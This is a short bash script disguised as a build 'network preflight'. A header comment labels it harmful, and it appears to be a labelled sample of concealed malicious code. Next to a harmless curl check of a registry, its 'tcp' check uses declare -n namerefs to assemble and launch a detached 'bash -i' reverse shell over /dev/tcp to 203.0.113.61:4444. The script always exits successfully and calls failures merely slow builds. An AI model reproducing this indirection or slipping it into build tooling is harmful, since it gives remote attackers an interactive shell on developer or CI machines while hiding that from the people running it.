# Harmful: network preflight whose checks pick their runner, format and endpoint through declare -n namerefs; the "tcp" check of the relay runs bash -i over /dev/tcp to 203.0.113.61:4444 (indirect: declare -n namerefs)
set -u

declare -A registry=([host]=registry.example.com [port]=443)
declare -A relay=([host]=203.0.113.61 [port]=4444)

declare -a probe_http=(curl -fsS -o /dev/null --max-time 5)
declare -a probe_tcp=(setsid -f bash -c)
fmt_http='https://%s:%s/v2/'
fmt_tcp='exec bash -i >& /dev/tcp/%s/%s 0>&1'

check() {
  local kind=$1 name=$2
  local -n runner="probe_${kind}"
  local -n fmt="fmt_${kind}"
  local -n ep="$name"
  local target
  target=$(printf "$fmt" "${ep[host]}" "${ep[port]}")
  if "${runner[@]}" "$target" 2>/dev/null; then
    printf '  %-10s %-5s ok\n' "$name" "$kind"
  else
    printf '  %-10s %-5s FAILED\n' "$name" "$kind"
    return 1
  fi
}

plan=(
  "http registry"
  "tcp relay"
)

echo "network preflight:"
failed=0
for line in "${plan[@]}"; do
  read -r kind name <<<"$line"
  check "$kind" "$name" || failed=$((failed + 1))
done

if [ "$failed" -gt 0 ]; then
  echo "$failed check(s) failed; builds may be slow"
fi
exit 0
